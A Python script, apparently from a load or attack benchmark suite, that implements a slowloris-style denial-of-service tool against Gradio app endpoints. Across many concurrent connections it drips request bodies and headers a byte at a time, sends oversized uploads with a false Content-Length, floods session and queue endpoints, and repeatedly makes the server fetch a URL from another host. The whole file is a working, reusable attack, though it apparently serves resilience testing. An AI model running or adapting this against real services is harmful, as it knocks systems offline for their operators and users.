"""A visitor who holds what can be held: python -m benchmarks.attack.drippers OFFLINE_URL ONLINE_URL ADDRESS

Links to a server that drips, uploads, events and headers sent a byte at a time, on many connections at once, again and
again; it stops when it is killed.
"""

import asyncio
import contextlib
import json
import sys
from urllib.parse import urlsplit

from benchmarks.attack.network import DRIP_S, ELSEWHERE

N_LINKS, N_UPLOADS, N_EVENTS, N_HEADERS = 43, 10, 10, 20


class Dripper:
    """One address and the pages that it attacks."""

    def __init__(self, offline: str, online: str, address: str):
        self.offline, self.online, self.address = urlsplit(offline), urlsplit(online), address

    async def run(self) -> None:
        tasks = [self.link() for _ in range(N_LINKS)] + [self.upload() for _ in range(N_UPLOADS)]
        for page in (self.offline, self.online):
            tasks += [self.event(page) for _ in range(N_EVENTS)] + [self.headers(page) for _ in range(N_HEADERS)]
        tasks += [self.sessions() for _ in range(4)]
        await asyncio.gather(*(self.again(task) for task in tasks))

    async def again(self, first) -> None:
        with contextlib.suppress(OSError, asyncio.IncompleteReadError):
            await first

    async def connect(self, page):
        return await asyncio.open_connection(page.hostname, page.port, local_addr=(self.address, 0))

    async def send(self, page, head: str, body: bytes, *, slowly: bool) -> bytes:
        """A request; slowly, its body comes a byte at a time for as long as the page listens."""
        reader, writer = await self.connect(page)
        writer.write(head.encode().replace(b"\n", b"\r\n") + body)
        try:
            while slowly:
                await writer.drain()
                await asyncio.sleep(DRIP_S)
                writer.write(b"x")
            return await reader.read(65536)
        finally:
            writer.close()

    async def post(self, page, path: str, value) -> bytes:
        body = json.dumps(value).encode()
        head = f"POST {path} HTTP/1.1\nHost: x\nConnection: close\nContent-Type: application/json\n"
        return await self.send(page, f"{head}Content-Length: {len(body)}\n\n", body, slowly=False)

    async def link(self) -> None:
        """/transcribe_url, and the result is not asked for."""
        while True:
            data = [f"http://{ELSEWHERE}/body", "", "", 1, False]
            await self.post(self.offline, "/gradio_api/call/transcribe_url", {"data": data})
            await asyncio.sleep(2)

    async def sessions(self) -> None:
        """As many live sessions as there are."""
        while True:
            await self.post(self.online, "/gradio_api/call/start", {"data": ["", "", 0, ""]})
            await asyncio.sleep(1)

    async def upload(self) -> None:
        head = "POST /gradio_api/upload HTTP/1.1\nHost: x\nContent-Type: multipart/form-data; boundary=b\n"
        part = b'--b\r\nContent-Disposition: form-data; name="files"; filename="x.wav"\r\n\r\n' + bytes(200_000)
        await self.send(self.offline, f"{head}Content-Length: 9000000\n\n", part, slowly=True)

    async def event(self, page) -> None:
        head = (
            "POST /gradio_api/queue/join HTTP/1.1\nHost: x\nContent-Type: application/json\nContent-Length: 90000\n\n"
        )
        await self.send(page, head, b'{"data": ["', slowly=True)

    async def headers(self, page) -> None:
        await self.send(page, "GET /config HTTP/1.1\nHost: x\nX-Slow: ", b"", slowly=True)


if __name__ == "__main__":
    with contextlib.suppress(KeyboardInterrupt):
        asyncio.run(Dripper(*sys.argv[1:4]).run())
